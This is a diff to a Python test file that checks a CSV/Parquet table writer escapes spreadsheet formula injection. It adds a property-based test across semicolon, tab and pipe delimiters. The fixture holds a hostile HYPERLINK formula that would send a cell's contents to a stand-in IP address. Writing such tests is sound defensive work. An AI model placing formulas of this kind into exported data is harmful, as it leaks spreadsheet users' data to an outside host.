@@ -12,6 +12,8 @@ from typing import Any
 
 import pyarrow.parquet
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from stresstest.errors import UsageError
 from stresstest.table_file import table_encoder, write_table
@@ -49,15 +51,27 @@ def test_no_text_is_a_formula_in_a_spreadsheet(tmp_path: Path, start: str) -> No
     """Answers and ids are a stranger's: a cell of theirs must not run. Numbers stay numbers."""
     path = tmp_path / "rows.csv"
     hostile = f'{start}HYPERLINK("http://192.0.2.1/?"&A1)'
-    row = {"id": hostile, "n": -3, "share": -0.5, "flag": True, "text": f"fine\r{hostile}"}
+    row = {"id": hostile, "n": -3, "share": -0.5, "flag": True, "text": f"fine;={hostile}"}
     write_table(str(path), COLUMNS, [row])
     with path.open(encoding="utf-8", newline="") as file:
         header, cells = list(csv.reader(file))
     assert header == list(COLUMNS)
-    assert cells == [f"'{hostile}", "-3", "-0.5", "true", f"fine\r{hostile}"]
+    assert cells == [f"'{hostile}", "-3", "-0.5", "true", f"fine;'={hostile}"]
     path = tmp_path / "rows.parquet"
     write_table(str(path), COLUMNS, [row])
     assert pyarrow.parquet.read_table(path).to_pylist() == [row]
+
+
+@pytest.mark.parametrize("separator", [";", "\t", "|"])
+@given(text=st.text(alphabet="=+-@＝;\t|\r\n\"' ,a", max_size=12))
+def test_no_reader_of_a_csv_finds_a_formula(separator: str, text: str) -> None:
+    """A spreadsheet with Italian settings splits at semicolons, wherever this file has quotes: no part of a
+    text may then begin as a formula does."""
+    encoder = table_encoder("x.csv", {"id": str, "text": str})
+    written = (encoder.encode([{"id": "r0", "text": text}]) + encoder.end()).decode()
+    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
+        for row in csv.reader(io.StringIO(written, newline=""), delimiter=separator, quoting=quoting):
+            assert not any(cell.lstrip(' "').startswith(tuple("=+-@＝")) for cell in row)
 
 
 def test_no_cell_of_a_csv_steers_a_terminal(tmp_path: Path) -> None:
